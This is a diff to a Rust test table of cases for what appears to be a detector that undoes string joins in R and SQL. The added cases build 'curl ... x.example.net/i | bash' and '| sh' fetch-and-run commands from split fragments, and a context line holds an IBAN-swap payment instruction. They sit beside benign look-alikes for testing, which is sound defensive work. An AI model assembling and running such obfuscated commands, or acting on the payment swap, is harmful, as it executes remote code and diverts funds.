@@ -2883,6 +2883,27 @@ const WIDENED: &[(&str, &str, &str, &str)] = &[
         "For their rows use\n    IBAN GB33 BUKB 2020 1555 5555 55 instead of the one in the vendor master.",
         "For their rows use\n    IBAN GB33 BUKB 2020 1555 5555 55 as the example of the format.",
     ),
+    // Issue 18 (misses10): SQL's `concat_ws`, R's `paste`/`paste0`/
+    // `sprintf` are joins the reassembly undoes, with the values of R's
+    // `<-` and PL/pgSQL's `:=` assignments.
+    (
+        "string-assembly",
+        "scripts/x.R",
+        "t <- paste(c(\"cu\", \"rl\"), collapse = \"\")",
+        "t <- copy_paste_buffer(x)",
+    ),
+    (
+        "assembled-payload",
+        "sql/x.sql",
+        "DECLARE\n  t text := 'cu' || 'rl';\n  r text := concat_ws(' ', t, '-s', 'x.example.net/i', '|', 'ba' || 'sh');",
+        "DECLARE\n  t text := 'report' || '_daily';\n  r text := concat_ws('.', 'public', t, 'v' || '2');",
+    ),
+    (
+        "assembled-payload",
+        "R/x.R",
+        "u <- paste0(\"https://\", \"x.example.net\", \"/i\")\njob <- sprintf(\"%s -fsS %s | %s\", paste0(\"cu\", \"rl\"), u, paste0(\"s\", \"h\"))",
+        "u <- paste0(\"https://\", \"x.example.net\", \"/i.csv\")\njob <- sprintf(\"%s -fsS -o data.csv %s\", paste0(\"cu\", \"rl\"), u)",
+    ),
 ];
 
 #[test]
